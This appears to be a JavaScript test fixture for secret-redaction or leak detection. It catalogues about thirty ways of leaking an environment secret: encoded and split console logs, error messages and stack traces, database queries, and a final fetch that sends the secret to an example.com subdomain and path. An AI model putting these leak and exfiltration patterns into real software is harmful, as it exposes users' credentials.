// A function that gives its secret away in every way it can think of, each once: {"way": n}, {"count": true}.

const bytes = (text) => new TextEncoder().encode(text);
const base64 = (text) => btoa(String.fromCharCode(...bytes(text)));
const hex = (text) => [...bytes(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
const fail = (message, more = {}) => {
  throw Object.assign(new Error(message), more);
};

const ways = [
  (secret) => console.log(secret),
  (secret) => console.log(`the key is ${secret}, keep it`),
  (secret) => console.error({ headers: { authorization: `Bearer ${secret}` } }),
  (secret) => console.log(JSON.stringify({ key: secret })),
  (secret) => console.log(JSON.stringify(JSON.stringify({ key: secret }))),
  (secret) => console.log(`https://example.com/?key=${encodeURIComponent(secret)}`),
  (secret) => console.log(new URLSearchParams({ key: secret }).toString()),
  (secret) => console.log(base64(secret)),
  (secret) => console.log(`Basic ${base64(`u:${secret}`)}`),
  (secret) => console.log(`Basic ${base64(`us:${secret}:x`)}`),
  (secret) => console.log(hex(secret)),
  (secret) => console.log(hex(secret).toUpperCase()),
  (secret) => console.log(bytes(secret)),
  (secret) => console.log([...secret]),
  (secret) => console.log(secret.slice(0, 9), secret.slice(9)),
  (secret) => {
    console.log(secret.slice(0, 9));
    console.log(secret.slice(9));
  },
  (secret) => [...secret].forEach((letter) => console.debug(letter)),
  (secret) => console.log("x".repeat(16_384 - 5) + secret),
  (secret) => console.log([...secret].reverse().join("")),
  (secret) => console.table([{ secret }]),
  (secret) => fail(`cannot log in with ${secret}`),
  (secret) => fail("failed", { name: `Error${secret}` }),
  (secret) => fail("failed", { stack: `Error: failed\n    at ${secret} (x.js:1:1)` }),
  (secret) => Promise.reject({ secret }),
  (secret) => db.query(`SELECT '${secret}'::int`),
  (secret) => db.query("SELECT $1::date", [secret]),
  (secret) => db.query(`SELECT "${secret}"`),
  async (secret) => {
    await db.query("INSERT INTO once VALUES ($1)", [secret]);
    await db.query("INSERT INTO once VALUES ($1)", [secret]);
  },
  (secret) => fetch(`http://${encodeURIComponent(secret)}.example.com/${secret}`),
];

export async function handler({ way, count }) {
  if (count) return ways.length;
  await ways[way](env.LEAKED);
}
